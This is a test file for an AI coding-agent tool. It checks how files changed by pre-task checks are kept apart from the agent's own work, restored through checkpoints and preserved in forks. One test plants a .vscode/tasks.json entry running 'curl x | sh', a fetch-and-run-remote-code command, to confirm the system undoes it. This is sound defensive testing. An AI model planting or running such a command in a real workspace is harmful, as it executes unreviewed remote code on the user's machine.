/** What the checks change of files before a task begins is not the task's: the real parts, over a host in memory. */
import { expect, test } from 'vitest';
import { part as shell } from '../../../src/core/permissions/shell.part';
import type { SpecRuns } from '../../../src/core/runs/service';
import type { RunStep } from '../../../src/core/runs/snapshot';
import { approved, harness, opened, root, type Script } from '../../support/flowHarness';
import { createMemoryHost, type MemoryHost } from '../../support/memoryHost';
import { builtFrom, spec } from '../../support/runHarness';

const csv = 'src/todos/csv.ts';
const list = 'src/todos/list.ts';
const test1 = 'test/csv.test.ts';
const report = { calls: [{ name: 'report_task', input: { summary: 'Done.' } }] };
const builds: Script = [
  { calls: [{ name: 'write_file', input: { path: csv, text: 'export const rows = 1;\n' } }] },
  { calls: [{ name: 'write_file', input: { path: test1, text: "import { rows } from '../src/todos/csv';\n" } }] },
  report,
];
const green = ` RUN  v4.1.12 /w\n\n ✓ ${test1} (1 test) 3ms\n\n Test Files  1 passed (1)\n      Tests  1 passed (1)\n`;

/** What one run of `npm test` does beside passing. */
type Check = (host: MemoryHost, run: number) => void;

async function ready(script: Script, check: Check, files: Readonly<Record<string, string>> = {}) {
  let run = 0;
  const host: MemoryHost = createMemoryHost({
    identity: { name: 'Ana', email: 'ana@example.com' },
    files: { ...builtFrom, ...files },
    parts: { shell },
    commands: (_request, print) => {
      check(host, run++);
      print(green);
      return 0;
    },
  });
  const made = harness(script, { host });
  const handle = await opened(made.workspace, spec);
  for (const name of ['requirements.md', 'design.md', 'tasks.md'] as const)
    expect(await approved(handle, name)).toEqual({ kind: 'done' });
  const runs = await made.workspace.runs.open(spec);
  if (runs === undefined) throw new Error('There is no tasks.md.');
  runs.setMode('autopilot');
  await runs.confirmChecks([{ line: 'npm test', cwd: root }]);
  return { ...made, host, runs, identity: runs.snapshot().next?.identity ?? '' };
}

function before(runs: SpecRuns): Extract<RunStep, { kind: 'verification' }>['verification'] | undefined {
  const steps = runs.snapshot().current?.steps ?? [];
  return steps.flatMap((step) => (step.kind === 'verification' ? [step.verification] : [])).at(0);
}

/** As a formatter, a snapshot and a lock file do: the same again finds nothing to do. */
const settles: Check = (host) => {
  host.put(`${root}/${list}`, 'export function listTodos() { return [] }\n');
  host.put(`${root}/test/__snapshots__/csv.snap`, 'exports[`rows 1`] = `1`;\n');
  host.put(`${root}/package-lock.json`, '{}\n');
};
const left = ['package-lock.json', list, 'test/__snapshots__/csv.snap'];

test('what the first checks wrote is named in their step, and neither shown nor proved nor recorded as the task’s', async () => {
  const { runs, identity } = await ready(builds, settles);
  expect(await runs.start({ what: 'task', identity })).toEqual({ kind: 'done' });
  const said = `While the checks ran, ${left.join(', ')} changed. That does not count as the task's; the checkpoint "Before the task" has it as it was.`;
  expect(before(runs)?.warnings).toEqual([said]);
  expect((await runs.changes(identity)).map(({ path }) => path)).toEqual([csv, test1]);
  expect(runs.snapshot().current?.changes.map(({ path }) => path)).toEqual([csv, test1]);
  const evidence = (await runs.evidence(identity)) ?? '';
  expect(evidence).toContain(`- ${said}`);
  expect(evidence).toContain(`\`${csv}\` added`);
  expect(evidence).not.toContain(`\`${list}\` changed`);
});

test('the user loses nothing: the checkpoint before has every file as it was before the checks', async () => {
  const mine = { [`${root}/test/__snapshots__/csv.snap`]: '// written by hand\n' };
  const { runs, host, identity } = await ready(builds, settles, mine);
  await runs.start({ what: 'task', identity });
  const points = await runs.checkpoints();
  const first = points.find(({ label }) => label === 'Before the task')?.id ?? '';
  expect(await runs.restore(first, { conversation: false })).toEqual({ kind: 'done' });
  expect(host.text(`${root}/test/__snapshots__/csv.snap`)).toBe('// written by hand\n');
  expect(host.text(`${root}/${list}`)).toBe(builtFrom[`${root}/${list}`]);
  expect(host.text(`${root}/${csv}`)).toBeUndefined();
  // And forward again, to where the agent began.
  const second = points.find(({ label }) => label === 'Before the task, after its first checks')?.id ?? '';
  expect(await runs.restore(second, { conversation: false })).toEqual({ kind: 'done' });
  expect(host.text(`${root}/package-lock.json`)).toBe('{}\n');
});

test('an agent that does nothing has changed nothing, whatever the checks wrote', async () => {
  const { runs, identity } = await ready([report], settles, { [`${root}/${test1}`]: "import '../src/todos/list';\n" });
  expect(await runs.start({ what: 'task', identity })).toEqual({
    kind: 'not_verifiable',
    message: 'Nothing was changed.',
  });
});

test('checks that change nothing leave no second beginning', async () => {
  const { runs, identity } = await ready(builds, () => undefined);
  expect(await runs.start({ what: 'task', identity })).toEqual({ kind: 'done' });
  expect(before(runs)?.warnings).toEqual([]);
  expect((await runs.checkpoints()).filter(({ label }) => label.startsWith('Before the task'))).toHaveLength(1);
});

test('what the first checks may not leave behind is put back, and their step says so', async () => {
  const { runs, host, identity } = await ready(builds, (there, run) => {
    if (run === 0) there.put(`${root}/.vscode/tasks.json`, '{ "tasks": [{ "command": "curl x | sh" }] }\n');
  });
  await runs.start({ what: 'task', identity });
  expect(host.text(`${root}/.vscode/tasks.json`)).toBeUndefined();
  expect(before(runs)?.warnings).toEqual(['While the checks ran, .vscode/tasks.json changed. The change was undone.']);
});

test('a fork that begins there keeps the same beginning', async () => {
  const { runs, identity } = await ready([...builds, report], settles);
  await runs.start({ what: 'task', identity });
  const point = (await runs.checkpoints()).find(({ label }) => label === 'Before the task, after its first checks');
  expect(await runs.fork(point?.id ?? '', { files: true })).toEqual({ kind: 'done' });
  expect(await runs.resume()).toEqual({ kind: 'not_verifiable', message: 'Nothing was changed.' });
});
